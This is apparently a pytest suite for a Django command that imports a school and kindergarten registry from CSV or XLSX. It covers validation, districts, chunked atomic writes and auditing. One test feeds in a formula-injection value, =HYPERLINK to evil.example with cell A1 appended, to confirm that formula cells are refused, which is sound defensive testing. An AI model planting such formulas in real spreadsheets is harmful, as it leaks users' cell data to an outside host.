"""`manage.py import_organizations FILE`: the registry from CSV or XLSX, all or nothing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from checklist.models import ChecklistEntry
from organizations import services
from organizations.links import parse_page_link
from organizations.models import District, OfficialPage, Organization
from tests.factories import OrganizationFactory

HEADER = ["short_name", "name", "kind", "vk_url", "ok_url", "email", "phone", "address", "website"]
ERROR_LINE = re.compile(r"row \d+: [a-z_]+: \S.*")

SOSH_9 = {
    "short_name": "СОШ №9",
    "name": "МБОУ СОШ №9 им. Полевого П.Г.",
    "kind": "школа",
    "vk_url": "https://m.vk.com/Club123/",
    "ok_url": "ok.ru/group53202816140587",
    "email": "sosh9@kush.edu.example",
    "phone": "+7 (86168) 4-89-86",
    "address": "352030, ст. Кущевская, ул. Школьная, 90",
    "website": "sosh9.kush.edu.example",
}
DS_10 = {"short_name": "д/с №10", "name": "МБДОУ детский сад №10", "kind": "детский сад", "vk_url": "vk.com/ds10_kush"}


def write_csv(tmp_path, rows: list[dict], header: list[str] = HEADER, name: str = "registry.csv", encoding="utf-8"):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(column, "") for column in header])
    path = tmp_path / name
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def write_xlsx(tmp_path, rows: list[list], header: list[str] = HEADER):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    path = tmp_path / "registry.xlsx"
    workbook.save(path)
    return path


def run(path, **options) -> str:
    out = io.StringIO()
    call_command("import_organizations", str(path), stdout=out, stderr=io.StringIO(), **options)
    return out.getvalue()


def run_failing(path, **options) -> list[str]:
    """The error lines the command printed; it must exit with code 1."""
    err = io.StringIO()
    with pytest.raises(CommandError) as failed:
        call_command("import_organizations", str(path), stdout=io.StringIO(), stderr=err, **options)
    assert failed.value.returncode == 1
    assert "Ничего не записано" in str(failed.value)
    lines = err.getvalue().splitlines()
    assert lines, "errors must be printed"
    for line in lines:
        assert ERROR_LINE.fullmatch(line), line
    return lines


def snapshot() -> tuple[int, int, int, int]:
    return (
        District.objects.count(),
        Organization.objects.count(),
        OfficialPage.objects.count(),
        ChecklistEntry.objects.count(),
    )


# --- good files ------------------------------------------------------------------------------------


def test_a_good_csv_creates_the_organizations_with_their_pages(db, tmp_path):
    output = run(write_csv(tmp_path, [SOSH_9, DS_10]))

    assert "создано 2, обновлено 0" in output
    school = Organization.objects.get(short_name="СОШ №9")
    assert (school.name, school.kind) == ("МБОУ СОШ №9 им. Полевого П.Г.", Organization.Kind.SCHOOL)
    assert (school.email, school.phone) == ("sosh9@kush.edu.example", "+7 (86168) 4-89-86")
    assert school.address == "352030, ст. Кущевская, ул. Школьная, 90"
    assert school.website == "https://sosh9.kush.edu.example"
    assert {page.network: page.url for page in school.pages.all()} == {
        "vk": "https://vk.com/club123",
        "ok": "https://ok.ru/group/53202816140587",
    }
    kindergarten = Organization.objects.get(short_name="д/с №10")
    assert kindergarten.kind == Organization.Kind.KINDERGARTEN
    assert [page.url for page in kindergarten.pages.all()] == ["https://vk.com/ds10_kush"]
    assert ChecklistEntry.objects.filter(organization=kindergarten).count() == 11


def test_a_good_xlsx_is_read_from_its_first_sheet(db, tmp_path):
    path = write_xlsx(
        tmp_path,
        [
            ["СОШ №4", "МБОУ СОШ №4", "School", "https://vk.com/club180243682", None, None, 88616841042, None, None],
            ["Юниор", "МБУ ДО «Юниор»", "ОДО", None, "https://ok.ru/junior.kush", "junior@kush.edu.example", None, None, None],
        ],
    )

    output = run(path)

    assert "создано 2" in output
    school = Organization.objects.get(short_name="СОШ №4")
    assert school.phone == "88616841042"  # a number cell is read as the digits typed, not 88616841042.0
    assert school.pages.get().url == "https://vk.com/club180243682"
    junior = Organization.objects.get(short_name="Юниор")
    assert junior.kind == Organization.Kind.ADDITIONAL
    assert junior.pages.get().url == "https://ok.ru/junior.kush"


def test_an_excel_csv_with_a_byte_order_mark_and_capitalised_header_is_read(db, tmp_path):
    path = tmp_path / "registry.csv"
    path.write_bytes("Short_Name,Name\r\nд/с №10,МБДОУ д/с №10\r\n".encode("utf-8-sig"))

    run(path)

    assert Organization.objects.filter(short_name="д/с №10").exists()


@pytest.mark.parametrize(
    ("typed", "kind"),
    [
        ("Школа", "school"),
        ("ДЕТСКИЙ САД", "kindergarten"),
        ("  детский   сад ", "kindergarten"),
        ("ОДО", "additional"),
        ("одо", "additional"),
        ("дополнительное образование", "additional"),
        ("Дополнительное Образование", "additional"),
        ("другое", "other"),
        ("ДРУГОЕ", "other"),
        ("Kindergarten", "kindergarten"),
        ("", "other"),
    ],
)
def test_kinds_are_understood_in_russian_and_english_in_any_case(db, tmp_path, typed, kind):
    run(write_csv(tmp_path, [{"short_name": "X", "name": "Организация X", "kind": typed}]))

    assert Organization.objects.get(short_name="X").kind == kind


def test_existing_organizations_are_updated_not_duplicated(db, tmp_path):
    district = District.objects.create(name="Кущевский район")
    existing = Organization.objects.create(
        district=district, short_name="СОШ №9", name="Старое название", kind="school", phone="+7 111"
    )
    services.page_set(organization=existing, network="vk", link=parse_page_link("vk", "vk.com/club1"))

    output = run(write_csv(tmp_path, [{"short_name": "СОШ №9", "name": "Новое название", "vk_url": "vk.com/club2"}, DS_10]))

    assert "создано 1, обновлено 1" in output
    assert Organization.objects.count() == 2
    existing.refresh_from_db()
    assert existing.name == "Новое название"
    assert existing.phone == "+7 111"  # an empty cell keeps what is known
    assert existing.kind == Organization.Kind.SCHOOL  # so does an empty kind cell
    assert existing.pages.get().url == "https://vk.com/club2"
    assert ChecklistEntry.objects.filter(organization=existing).count() == 11


def test_a_file_without_a_kind_column_keeps_the_kinds_already_known(db, tmp_path):
    district = District.objects.create(name="Кущевский район")
    Organization.objects.create(district=district, short_name="д/с №10", name="Д/с", kind="kindergarten")

    run(write_csv(tmp_path, [{"short_name": "д/с №10", "name": "МБДОУ д/с №10"}], header=["short_name", "name"]))

    assert Organization.objects.get(short_name="д/с №10").kind == Organization.Kind.KINDERGARTEN


def test_importing_the_same_file_twice_changes_nothing_the_second_time(db, tmp_path):
    path = write_csv(tmp_path, [SOSH_9, DS_10])
    run(path)
    before = snapshot()

    output = run(path)

    assert "создано 0, обновлено 2" in output
    assert snapshot() == before


def test_new_organizations_join_the_named_district(db, tmp_path):
    run(write_csv(tmp_path, [DS_10]), district="Ейский район")

    assert Organization.objects.get().district.name == "Ейский район"


# --- bad files: every error printed, nothing written ------------------------------------------------


BAD_ROWS = [
    # id, rows of the file (after the good row 2), expected error line start, words of the message
    ("empty-name", [{"short_name": "СОШ №1", "name": ""}], "row 3: name: ", "обязательное поле"),
    ("empty-short-name", [{"short_name": " ", "name": "Школа"}], "row 3: short_name: ", "обязательное поле"),
    ("duplicate-short-name", [{"short_name": "СОШ №9", "name": "Ещё раз"}], "row 3: short_name: ", "повторяет строку 2"),
    ("unknown-kind", [{"short_name": "X", "name": "X", "kind": "лицей"}], "row 3: kind: ", "неизвестный тип «лицей»"),
    (
        "facebook-vk-url",
        [{"short_name": "X", "name": "X", "vk_url": "https://facebook.com/x"}],
        "row 3: vk_url: ",
        "должна вести на vk.com или vk.ru",
    ),
    (
        "vk-link-in-ok-column",
        [{"short_name": "X", "name": "X", "ok_url": "https://vk.com/club5"}],
        "row 3: ok_url: ",
        "а здесь нужна ссылка на Одноклассники",
    ),
    (
        "post-instead-of-community",
        [{"short_name": "X", "name": "X", "vk_url": "https://vk.com/wall-1_2"}],
        "row 3: vk_url: ",
        "не на главную страницу сообщества",
    ),
    ("bad-email", [{"short_name": "X", "name": "X", "email": "school9@"}], "row 3: email: ", "электронной почты"),
    ("bad-website", [{"short_name": "X", "name": "X", "website": "not a site"}], "row 3: website: ", "адрес сайта"),
    (
        "same-link-twice-in-the-file",
        [{"short_name": "X", "name": "X", "vk_url": "https://vk.com/club123"}],
        "row 3: vk_url: ",
        "уже указана в строке 2",
    ),
    (
        "website-too-long-once-https-is-added",
        [{"short_name": "X", "name": "X", "website": "abcdefghij." * 18 + "ru"}],  # 200 typed, 208 stored
        "row 3: website: ",
        "не более 200 символов",
    ),
    (
        "email-too-long-for-the-field",
        [{"short_name": "X", "name": "X", "email": "a" * 64 + "@" + ("b" * 60 + ".") * 4 + "ru"}],
        "row 3: email: ",
        "не более 254 символов",
    ),
]


@pytest.mark.parametrize(
    ("rows", "start", "words"), [case[1:] for case in BAD_ROWS], ids=[case[0] for case in BAD_ROWS]
)
def test_a_bad_row_is_reported_by_row_and_column_and_nothing_is_written(db, tmp_path, rows, start, words):
    before = snapshot()

    lines = run_failing(write_csv(tmp_path, [SOSH_9, *rows]))

    assert any(line.startswith(start) and words in line for line in lines), lines
    assert snapshot() == before  # not even the good row 2


def test_a_link_already_registered_for_another_organization_is_refused(db, tmp_path):
    other = OrganizationFactory(short_name="СОШ №14")
    services.page_set(organization=other, network="vk", link=parse_page_link("vk", "vk.com/club123"))
    before = snapshot()

    lines = run_failing(write_csv(tmp_path, [DS_10, SOSH_9]))

    assert lines == ["row 3: vk_url: страница уже зарегистрирована за «СОШ №14»"]
    assert snapshot() == before


def test_every_error_of_the_file_is_printed_in_row_order(db, tmp_path):
    rows = [
        SOSH_9,  # row 2: good
        {"short_name": "A", "name": "", "email": "bad"},  # row 3: two errors
        {},  # row 4: blank line, skipped but counted
        {"short_name": "B", "name": "B", "kind": "гимназия", "vk_url": "facebook.com/b"},  # row 5
    ]

    lines = run_failing(write_csv(tmp_path, rows))

    assert [line.split(":")[0] for line in lines] == ["row 3", "row 3", "row 5", "row 5"]
    assert {line.split(":")[1].strip() for line in lines} == {"name", "email", "kind", "vk_url"}
    assert Organization.objects.count() == 0


def test_an_xlsx_error_names_the_spreadsheet_row(db, tmp_path):
    path = write_xlsx(tmp_path, [["СОШ №4", "МБОУ СОШ №4"], ["Юниор", None, "ОДО"]])

    lines = run_failing(path)

    assert lines == ["row 3: name: обязательное поле не заполнено"]
    assert Organization.objects.count() == 0


def test_a_missing_required_column_is_reported_on_the_header_row(db, tmp_path):
    lines = run_failing(write_csv(tmp_path, [{"short_name": "X"}], header=["short_name", "kind"]))

    assert len(lines) == 1
    assert lines[0].startswith("row 1: ")
    assert "В заголовке нет столбцов: name" in lines[0]
    assert Organization.objects.count() == 0


def excel_csv(rows: list[dict], *, encoding: str, bom: bool) -> bytes:
    """The bytes Russian Excel writes: semicolons, CRLF, and a BOM for «CSV UTF-8»."""
    lines = [";".join(HEADER)] + [";".join(row.get(column, "") for column in HEADER) for row in rows]
    return (b"\xef\xbb\xbf" if bom else b"") + "\r\n".join(lines).encode(encoding) + b"\r\n"


@pytest.mark.parametrize(
    ("encoding", "bom", "named"),
    [("utf-8", True, "CSV, UTF-8 с BOM, разделитель «;»"), ("cp1251", False, "CSV, Windows-1251, разделитель «;»")],
    ids=["CSV UTF-8", "CSV (разделители-запятые)"],
)
def test_a_registry_as_russian_excel_saves_it_is_read_and_its_form_named(db, tmp_path, encoding, bom, named):
    path = tmp_path / "registry.csv"
    path.write_bytes(excel_csv([SOSH_9, DS_10], encoding=encoding, bom=bom))

    output = run(path)

    assert f"создано 2, обновлено 0 (файл: {named})" in output
    school = Organization.objects.get(short_name="СОШ №9")
    assert (school.name, school.address) == (SOSH_9["name"], SOSH_9["address"])
    assert school.website == "https://sosh9.kush.edu.example"  # the last column, without a stray \r
    assert Organization.objects.get(short_name="д/с №10").kind == Organization.Kind.KINDERGARTEN


def test_a_plain_utf8_csv_with_commas_is_named_so(db, tmp_path):
    assert "(файл: CSV, UTF-8, разделитель «,»)" in run(write_csv(tmp_path, [SOSH_9]))


# --- formulas --------------------------------------------------------------------------------------


def test_a_csv_value_that_is_a_formula_is_refused_with_its_row_and_column(db, tmp_path):
    hostile = {**DS_10, "name": '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'}

    lines = run_failing(write_csv(tmp_path, [SOSH_9, hostile]))

    assert len(lines) == 1
    assert lines[0].startswith("row 3: name: в ячейке B3 формула «=HYPERLINK(")
    assert "а не значение" in lines[0]
    assert Organization.objects.count() == 0


def test_an_xlsx_formula_cell_without_a_cached_value_is_named_not_dropped(db, tmp_path):
    # openpyxl writes a formula with no cached value: read with data_only it would be None.
    path = write_xlsx(tmp_path, [["СОШ №4", '="МБОУ "&A2', "школа"], ["Юниор", "МБУ ДО «Юниор»", "ОДО"]])

    lines = run_failing(path)

    assert lines == [
        "row 2: name: в ячейке B2 формула «=\"МБОУ \"&A2», а не значение: вставьте в неё само значение "
        "(в Excel: Копировать → Специальная вставка → Значения)"
    ]
    assert Organization.objects.count() == 0


# --- big files -------------------------------------------------------------------------------------


def numbered(count: int) -> list[dict]:
    return [
        {"short_name": f"ОУ №{n}", "name": f"МБОУ №{n}", "kind": "школа", "vk_url": f"vk.com/school_{n}",
         "ok_url": f"ok.ru/group{5000000000000 + n}", "phone": "+7 (86168) 4-89-86"}
        for n in range(count)
    ]


def queries_to_import(tmp_path, rows: list[dict]) -> tuple[int, int]:
    """(queries but INSERTs, INSERT statements)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        run(write_csv(tmp_path, rows, name=f"registry-{len(rows)}.csv"))
    inserts = sum(query["sql"].startswith("INSERT") for query in captured.captured_queries)
    return len(captured.captured_queries) - inserts, inserts


def test_the_queries_of_a_chunk_do_not_grow_with_its_rows(db, tmp_path):
    queries_to_import(tmp_path, numbered(1))  # the first import also makes the district and caches content types
    (few, few_inserts), (many, many_inserts) = (
        queries_to_import(tmp_path, numbered(4)[1:]), queries_to_import(tmp_path, numbered(60)[30:])
    )

    assert many == few
    # INSERTs are one a table, split only where the database caps the parameters of a statement
    # (SQLite: 999; 330 checklist entries of 10 columns take 4 statements there).
    from django.db import connection

    limit = connection.features.max_query_params
    extra = 0 if limit is None else -(-30 * 11 * (len(ChecklistEntry._meta.concrete_fields) - 1) // limit) - 1
    assert few_inserts <= many_inserts <= few_inserts + extra
    assert Organization.objects.count() == 34 and OfficialPage.objects.count() == 68
    assert ChecklistEntry.objects.filter(organization__short_name="ОУ №59").count() == 11


def test_a_big_file_is_written_in_chunks_with_a_progress_bar_and_audited(db, tmp_path, monkeypatch):
    from auditlog.models import LogEntry

    monkeypatch.setattr("organizations.importer.CHUNK_ROWS", 10)

    output = run(write_csv(tmp_path, numbered(25)))

    assert [line.split("] ")[1] for line in output.splitlines() if line.startswith("[")] == ["10/25", "20/25", "25/25"]
    assert "создано 25" in output
    created = LogEntry.objects.get_for_object(Organization.objects.get(short_name="ОУ №24")).get()
    assert created.action == LogEntry.Action.CREATE and created.changes_dict["name"] == ["None", "МБОУ №24"]
    assert LogEntry.objects.filter(action=LogEntry.Action.CREATE, content_type__model="officialpage").count() == 50


def test_a_changed_row_is_audited_old_to_new_and_an_unchanged_one_is_not_written(db, tmp_path):
    from auditlog.models import LogEntry

    run(write_csv(tmp_path, [SOSH_9, DS_10]))
    before = LogEntry.objects.count()

    output = run(write_csv(tmp_path, [{**SOSH_9, "name": "МБОУ СОШ №9"}, DS_10]))

    assert "создано 0, обновлено 2" in output
    update = LogEntry.objects.filter(pk__gt=0).order_by("-pk").first()
    assert LogEntry.objects.count() == before + 1
    assert update.action == LogEntry.Action.UPDATE
    assert update.changes_dict == {"name": [SOSH_9["name"], "МБОУ СОШ №9"]}


def test_a_text_file_is_refused(db, tmp_path):
    path = tmp_path / "registry.txt"
    path.write_text("short_name,name\nX,Y\n", encoding="utf-8")

    lines = run_failing(path)

    assert lines == ["row 1: file: Поддерживаются только файлы .csv и .xlsx."]


def test_a_broken_xlsx_is_refused(db, tmp_path):
    path = tmp_path / "registry.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a workbook")

    lines = run_failing(path)

    assert lines[0].startswith("row 1: file: Не удалось прочитать XLSX")


def test_an_empty_file_is_refused(db, tmp_path):
    path = tmp_path / "registry.csv"
    path.write_bytes(b"")

    lines = run_failing(path)

    assert lines == ["row 1: file: Файл пустой: нужна строка заголовков и строки организаций."]


def test_a_missing_file_is_an_error(db, tmp_path):
    with pytest.raises(CommandError) as failed:
        call_command("import_organizations", str(tmp_path / "nowhere.csv"), stderr=io.StringIO())

    assert failed.value.returncode == 1
    assert "файл не найден" in str(failed.value)


def test_a_failed_import_does_not_create_the_district_either(db, tmp_path):
    assert District.objects.count() == 0

    run_failing(write_csv(tmp_path, [{"short_name": "X", "name": ""}]))
    run_failing(write_csv(tmp_path, [{"short_name": "X", "name": ""}]), district="Ейский район")

    assert District.objects.count() == 0


def test_a_failure_while_writing_a_later_chunk_leaves_nothing_of_the_earlier_ones(db, tmp_path, monkeypatch):
    from organizations.signals import organizations_created

    monkeypatch.setattr("organizations.importer.CHUNK_ROWS", 10)
    chunks = []

    def fail_on_the_third_chunk(sender, organizations, **kwargs):
        chunks.append(len(organizations))
        if len(chunks) == 3:
            raise OSError("disk full")

    organizations_created.connect(fail_on_the_third_chunk, dispatch_uid="test-fail-third-chunk")
    try:
        with pytest.raises(OSError):
            run(write_csv(tmp_path, numbered(25)))
    finally:
        organizations_created.disconnect(dispatch_uid="test-fail-third-chunk")

    assert chunks == [10, 10, 5]
    assert snapshot() == (0, 0, 0, 0)  # not even the district created for the import


def test_a_max_url_column_registers_the_organizations_max_channel(db, tmp_path):
    rows = [{**SOSH_9, "max_url": "@sosh9_gos"}, {**DS_10, "max_url": ""}]

    run(write_csv(tmp_path, rows, header=[*HEADER, "max_url"]))

    school = Organization.objects.get(short_name="СОШ №9")
    assert school.pages.get(network="max").url == "https://max.ru/sosh9_gos"
    assert not Organization.objects.get(short_name="д/с №10").pages.filter(network="max").exists()


def test_an_invitation_link_to_a_private_max_channel_is_refused_and_nothing_is_written(db, tmp_path):
    rows = [{**SOSH_9, "max_url": "https://max.ru/join/AbCdEf123"}, DS_10]

    errors = run_failing(write_csv(tmp_path, rows, header=[*HEADER, "max_url"]))

    assert len(errors) == 1 and errors[0].startswith("row 2: max_url:")
    assert "публичным" in errors[0]
    assert not Organization.objects.exists()


# --- the audience column (§5, §3.6) ------------------------------------------------------------


def test_the_audience_column_sets_what_subscribers_are_measured_against(db, tmp_path):
    header = [*HEADER, "audience"]
    run(write_csv(tmp_path, [{**SOSH_9, "audience": "1 250"}, {**DS_10, "audience": ""}], header=header))

    school, kindergarten = Organization.objects.get(short_name="СОШ №9"), Organization.objects.get(short_name="д/с №10")
    assert school.audience == 1250 and school.audience_updated_at is not None
    assert kindergarten.audience is None  # an empty cell states nothing

    stated_at = school.audience_updated_at
    run(write_csv(tmp_path, [{**SOSH_9, "audience": "1250"}], header=header))
    school.refresh_from_db()
    assert school.audience_updated_at == stated_at  # the same number again is no new statement


def test_an_xlsx_audience_given_as_a_number_is_read(db, tmp_path):
    run(write_xlsx(tmp_path, [["СОШ №9", "МБОУ СОШ №9", "школа", 640]], header=["short_name", "name", "kind", "audience"]))

    assert Organization.objects.get(short_name="СОШ №9").audience == 640


@pytest.mark.parametrize("typed", ["много", "-5", "12,5"])
def test_an_audience_that_is_not_a_whole_number_is_refused_and_nothing_is_written(db, tmp_path, typed):
    before = snapshot()

    lines = run_failing(write_csv(tmp_path, [{**SOSH_9, "audience": typed}], header=[*HEADER, "audience"]))

    assert lines == ["row 2: audience: целое число не меньше нуля (ученики, сотрудники и родители)"]
    assert snapshot() == before


# --- districts: a row is (district, short_name) ---------------------------------------------------


DISTRICT_HEADER = ["district", *HEADER]
SOSH_1_KUSH = {"district": "Кущевский район", "short_name": "СОШ №1", "name": "МБОУ СОШ №1 ст. Кущёвской",
               "vk_url": "vk.com/club1001"}
SOSH_1_EYSK = {"district": "Ейский район", "short_name": "СОШ №1", "name": "МБОУ СОШ №1 г. Ейска",
               "vk_url": "vk.com/club2001"}


def in_district(district: str, short_name: str) -> Organization:
    return Organization.objects.get(district__name=district, short_name=short_name)


def test_two_districts_each_with_a_sosh_1_are_imported_as_two_organizations(db, tmp_path):
    output = run(write_csv(tmp_path, [SOSH_1_KUSH, SOSH_1_EYSK], header=DISTRICT_HEADER))

    assert "создано 2, обновлено 0" in output
    assert set(District.objects.values_list("name", flat=True)) == {"Кущевский район", "Ейский район"}
    kush, eysk = in_district("Кущевский район", "СОШ №1"), in_district("Ейский район", "СОШ №1")
    assert kush.pk != eysk.pk
    assert (kush.name, eysk.name) == ("МБОУ СОШ №1 ст. Кущёвской", "МБОУ СОШ №1 г. Ейска")
    assert [page.url for page in kush.pages.all()] == ["https://vk.com/club1001"]
    assert [page.url for page in eysk.pages.all()] == ["https://vk.com/club2001"]


def test_a_reimport_updates_the_sosh_1_of_the_rows_district_only(db, tmp_path):
    run(write_csv(tmp_path, [SOSH_1_KUSH, SOSH_1_EYSK], header=DISTRICT_HEADER))

    output = run(write_csv(tmp_path, [{**SOSH_1_EYSK, "name": "МБОУ СОШ №1 им. Ейского"}], header=DISTRICT_HEADER))

    assert "создано 0, обновлено 1" in output
    assert Organization.objects.count() == 2
    assert in_district("Ейский район", "СОШ №1").name == "МБОУ СОШ №1 им. Ейского"
    assert in_district("Кущевский район", "СОШ №1").name == "МБОУ СОШ №1 ст. Кущёвской"


def test_the_same_short_name_twice_in_one_district_of_the_file_is_refused(db, tmp_path):
    rows = [SOSH_1_KUSH, SOSH_1_EYSK, {**SOSH_1_EYSK, "vk_url": ""}]

    lines = run_failing(write_csv(tmp_path, rows, header=DISTRICT_HEADER))

    assert lines == ["row 4: short_name: повторяет строку 3"]
    assert snapshot() == (0, 0, 0, 0)


def test_a_row_without_a_district_is_refused_when_the_install_has_several_and_nothing_is_written(db, tmp_path):
    District.objects.create(name="Кущевский район")
    District.objects.create(name="Ейский район")
    before = snapshot()

    lines = run_failing(write_csv(tmp_path, [SOSH_9, DS_10]))

    assert [line.split(":")[:2] for line in lines] == [["row 2", " district"], ["row 3", " district"]]
    assert "район не указан" in lines[0] and "Ейский район, Кущевский район" in lines[0]
    assert "--district" in lines[0]
    assert snapshot() == before


def test_a_row_without_a_district_is_refused_when_the_file_names_several(db, tmp_path):
    rows = [SOSH_1_KUSH, SOSH_1_EYSK, {**DS_10, "district": ""}]

    lines = run_failing(write_csv(tmp_path, rows, header=DISTRICT_HEADER))

    assert len(lines) == 1 and lines[0].startswith("row 4: district: район не указан")
    assert snapshot() == (0, 0, 0, 0)  # the two districts the file names are not created either


def test_rows_without_a_district_go_to_the_one_district_the_file_names(db, tmp_path):
    rows = [SOSH_1_EYSK, {**DS_10, "district": ""}]

    run(write_csv(tmp_path, rows, header=DISTRICT_HEADER))

    assert set(Organization.objects.values_list("district__name", flat=True)) == {"Ейский район"}


def test_the_district_option_gives_every_row_its_district_beside_a_namesake(db, tmp_path):
    kush = District.objects.create(name="Кущевский район")
    namesake = Organization.objects.create(district=kush, short_name="СОШ №9", name="МБОУ СОШ №9 ст. Кущёвской")

    output = run(write_csv(tmp_path, [SOSH_9, DS_10]), district="Ейский район")

    assert "создано 2, обновлено 0" in output
    assert in_district("Ейский район", "СОШ №9").name == SOSH_9["name"]
    namesake.refresh_from_db()
    assert namesake.name == "МБОУ СОШ №9 ст. Кущёвской"  # the other district's «СОШ №9» is left alone


def test_a_district_typed_in_another_case_or_with_yo_finds_the_one_there_is(db, tmp_path):
    kush = District.objects.create(name="Кущевский район")
    Organization.objects.create(district=District.objects.create(name="Ейский район"), short_name="X", name="X")

    run(write_csv(tmp_path, [{**SOSH_1_KUSH, "district": "  КУЩЁВСКИЙ   район "}], header=DISTRICT_HEADER))
    run(write_csv(tmp_path, [DS_10]), district="кущевский район")

    assert District.objects.count() == 2
    assert set(kush.organizations.values_list("short_name", flat=True)) == {"СОШ №1", "д/с №10"}


def test_a_row_naming_another_district_than_the_option_is_refused(db, tmp_path):
    rows = [{**SOSH_9, "district": "Ейский район"}, {**DS_10, "district": "Кущевский район"}, {**SOSH_1_KUSH, "district": ""}]

    lines = run_failing(write_csv(tmp_path, rows, header=DISTRICT_HEADER), district="Ейский район")

    assert len(lines) == 1 and lines[0].startswith("row 3: district: в строке район «Кущевский район»")
    assert "--district «Ейский район»" in lines[0]
    assert snapshot() == (0, 0, 0, 0)


def test_a_district_name_too_long_is_a_row_error(db, tmp_path):
    lines = run_failing(write_csv(tmp_path, [{**SOSH_1_KUSH, "district": "Р" * 201}], header=DISTRICT_HEADER))

    assert lines == ["row 2: district: не длиннее 200 символов"]


def test_a_link_of_another_districts_namesake_is_refused_naming_its_district(db, tmp_path):
    run(write_csv(tmp_path, [SOSH_1_KUSH], header=DISTRICT_HEADER))

    lines = run_failing(write_csv(tmp_path, [{**SOSH_1_EYSK, "vk_url": SOSH_1_KUSH["vk_url"]}], header=DISTRICT_HEADER))

    assert lines == ["row 2: vk_url: страница уже зарегистрирована за «СОШ №1 (Кущевский район)»"]
    assert Organization.objects.count() == 1


def test_two_organizations_of_one_district_cannot_share_a_short_name(db):
    from django.core.exceptions import ValidationError

    kush, eysk = District.objects.create(name="Кущевский район"), District.objects.create(name="Ейский район")
    Organization.objects.create(district=kush, short_name="СОШ №1", name="Первая")
    Organization(district=eysk, short_name="СОШ №1", name="Первая в Ейске").full_clean()  # another district: fine

    with pytest.raises(ValidationError) as refused:
        Organization(district=kush, short_name="СОШ №1", name="Вторая").full_clean()

    assert "В этом районе уже есть организация с таким кратким названием." in str(refused.value)
